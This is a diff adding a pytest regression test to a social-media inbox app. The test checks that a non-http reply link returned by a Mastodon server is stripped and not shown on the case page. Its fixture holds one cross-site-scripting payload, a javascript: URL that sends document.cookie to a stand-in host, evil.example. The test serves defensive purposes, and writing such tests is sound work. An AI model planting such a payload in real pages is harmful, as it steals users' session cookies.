@@ -3,6 +3,9 @@ and a clear error when the channel cannot reply (RSS)."""
 
 from __future__ import annotations
 
+import json
+from pathlib import Path
+
 import pytest
 
 from servicepulse.engage.models import Case, CaseState, Reply, ReplyOutcome, SavedReply
@@ -70,6 +73,39 @@ def test_rss_cannot_reply_is_a_clear_error(client, users) -> None:  # type: igno
     reply = Reply.objects.get(case__mention=mention)
     assert reply.outcome == ReplyOutcome.CANNOT_REPLY
     assert Case.objects.get(mention=mention).state == CaseState.NEW
+
+
+def test_a_reply_link_that_is_not_http_is_not_linked(client, users) -> None:  # type: ignore[no-untyped-def]
+    """The platform's answer names the reply's address; a server answering with a javascript: link must not
+    put it on the case page (the same check the posts' own links get)."""
+    fixtures = Path(__file__).resolve().parents[2] / "servicepulse/sources/connectors/mastodon/fixtures"
+    status = json.loads((fixtures / "status_post_reply.json").read_bytes())
+    status["url"] = "javascript:fetch('//evil.example/?'+document.cookie)"
+    masto = source_create(
+        kind="mastodon",
+        name="campus-mastodon",
+        options={"api_base_url": "http://127.0.0.1:1", "access_token": "t"},
+    )
+    mention = MentionFactory(
+        source=masto,
+        external_id="113500000000000201",
+        author="eli",
+        raw={"account": {"acct": "eli@m.example"}},
+    )
+    routes = {
+        ("GET", "/api/v2/instance/"): [Answer(200, body=(fixtures / "instance_v2.json").read_bytes())],
+        ("POST", "/api/v1/statuses"): [Answer(200, body=json.dumps(status).encode())],
+    }
+    with ReplayServer(routes) as server:
+        masto.options["api_base_url"] = server.url
+        masto.save()
+        client.force_login(users["responder"])
+        page = client.post(f"/inbox/m/{mention.pk}/", {"action": "reply", "text": "On it."}, follow=True)
+    assert "Reply sent on Mastodon" in page.content.decode()
+    reply = Reply.objects.get(case__mention=mention)
+    assert reply.outcome == ReplyOutcome.SENT and reply.external_id == str(status["id"])
+    assert reply.url == ""
+    assert "javascript:" not in client.get(f"/inbox/m/{mention.pk}/").content.decode()
 
 
 def test_roles(client, users, slack_mention) -> None:  # type: ignore[no-untyped-def]
